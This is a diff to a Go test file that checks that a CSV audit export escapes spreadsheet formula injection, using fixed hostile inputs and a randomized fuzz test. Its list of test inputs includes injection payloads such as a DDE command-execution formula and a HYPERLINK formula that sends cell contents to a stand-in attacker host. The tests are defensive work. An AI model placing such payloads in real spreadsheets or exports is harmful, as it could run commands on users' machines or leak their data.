@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"math/rand/v2"
 	"path/filepath"
 	"reflect"
 	"slices"
@@ -138,6 +139,8 @@ func hostile() []string {
 		"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1)",
 		" =1", "   \u00a0=1", "\u200b=1", "\ufeff=1", "\t=1", "\r=1", "\n=1", "\r\n=1", "\v=1", "\f=1", "\x00=1",
 		"fine\n=1", "fine\r=1", "fine\r\n  =1", "fine\u2028=1", "fine\u0085=1", "fine\n\n\n\t-1", "\"\n=1\"",
+		"Ticket 4;=1+1", "Ticket 4; =1", "Ticket 4\t=1", "Ticket 4|@SUM(A1)", "Ticket 4,+1", "a;;=1", "a;\"=1\"", "a;'=1", "a|\u200b-1", "\"=1\"",
+		"a,\t;|-1", "﹦1", "a;﹢1", "﹣1", "﹫1",
 		"＝1", "＋1", "－1", "＠1", "=", "-", "\t", "\r", "'=1", "\n", "",
 	}
 }
@@ -169,13 +172,45 @@ func cellsAreText(t *testing.T, text string) {
 		t.Fatalf("%q broke the table: %q", text, table)
 	}
 	for _, cell := range table[1] {
-		for _, line := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune("\n\v\f\r\u0085\u2028\u2029", r) }) {
-			start := strings.TrimLeftFunc(line, func(r rune) bool {
-				return r != '\t' && (unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r))
+		for _, piece := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune("\n\v\f\r\u0085\u2028\u2029;\t|,", r) }) {
+			start := strings.TrimLeftFunc(piece, func(r rune) bool {
+				return r == '"' || unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
 			})
-			if start != "" && strings.ContainsRune("=+-@\t＝＋－＠", []rune(start)[0]) {
+			if start != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫", []rune(start)[0]) {
 				t.Errorf("%q became %q, which starts a formula", text, cell)
 			}
 		}
+		if cell != "" && strings.ContainsRune("\t\r", rune(cell[0])) {
+			t.Errorf("%q became %q, which starts with a character that programs drop", text, cell)
+		}
+	}
+}
+
+// TestPlainTextStaysPlain: an export is for reading.
+func TestPlainTextStaysPlain(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{
+		"Ticket 48213", "a - b", "asked by priya@acme.com, twice", "2 + 2 = 4", "up; down", "\"quoted\"", "it's fine", "yes, no | maybe",
+	} {
+		if got := readCSV(t, audit.Record{Reason: text})[1][9]; got != text {
+			t.Errorf("%q became %q", text, got)
+		}
+	}
+}
+
+// TestEveryStartOfACellIsEscaped joins separators, spaces, marks and text at random.
+func TestEveryStartOfACellIsEscaped(t *testing.T) {
+	t.Parallel()
+	pieces := []string{
+		"\n", "\r", "\r\n", "\v", "\f", "\u0085", "\u2028", "\u2029", ";", "\t", "|", ",", " ", "\u00a0", "\u200b", "\ufeff", "\x00",
+		"\"", "'", "=", "+", "-", "@", "＝", "﹢", "a", "1", "é",
+	}
+	random := rand.New(rand.NewPCG(20, 1))
+	for range 3000 {
+		var text strings.Builder
+		for range random.IntN(12) {
+			text.WriteString(pieces[random.IntN(len(pieces))])
+		}
+		cellsAreText(t, text.String())
 	}
 }
